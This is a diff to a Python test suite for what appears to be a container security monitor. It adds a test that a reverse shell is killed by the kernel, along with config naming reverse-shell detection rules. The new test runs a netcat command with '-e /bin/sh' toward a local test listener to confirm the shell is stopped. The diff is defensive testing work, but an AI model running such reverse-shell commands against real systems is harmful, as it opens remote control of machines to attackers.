@@ -208,6 +208,9 @@ def stop(p: subprocess.Popen) -> None:
 
 # ---------------------------------------------------------------- pause
 REVERSE_SHELL_PAUSES = """
+[response]
+kill_shell_socket = false     # the kernel would kill the shell at its exec: test the pause
+
 [response.rules]
 reverse_shell_socket_dup = "pause"
 reverse_shell_exec_socket_stdio = "pause"
@@ -255,6 +258,26 @@ def test_reverse_shell_is_frozen_and_answers_nothing_until_resumed(session_env, 
     assert f"== coi-sentinel: {name} PAUSED" in err and pause["rule"] in err
     assert "ms after the event" in err and f"coi-sentinel resume-session {name}" in err
     assert actions(audit_records(env, name), action="resume", by="user")
+    assert env.containers() == []
+
+
+def test_reverse_shell_is_killed_by_the_kernel_before_its_first_byte(session_env, listener):
+    """The default settings: nc connects to the bridge and puts the socket on its stdin and
+    stdout to exec a shell: the kernel kills it at that dup, the listener gets its connection
+    and not a byte."""
+    env = session_env
+    configure(env)
+    name = session_name(env)
+    env.run("run", "--", "sh", "-c", f"nc {BRIDGE_IP} {listener.port} -e /bin/sh; echo rc=$?",
+                timeout=180)
+    # the listener's thread accepts within 0.1 s of the connection
+    wait_for("the reverse shell's connection", lambda: listener.connected_at, 10)
+    time.sleep(0.5)                         # what the shell would have answered has had time
+    assert listener.received == []
+    records = audit_records(env, name)
+    kernel = actions(records, action="kill-process", by="kernel")
+    assert kernel and "network socket" in kernel[0]["reason"], kernel
+    assert any(r.get("record") == "alert" and r["rule"].startswith("reverse_shell_") for r in records)
     assert env.containers() == []
 
 
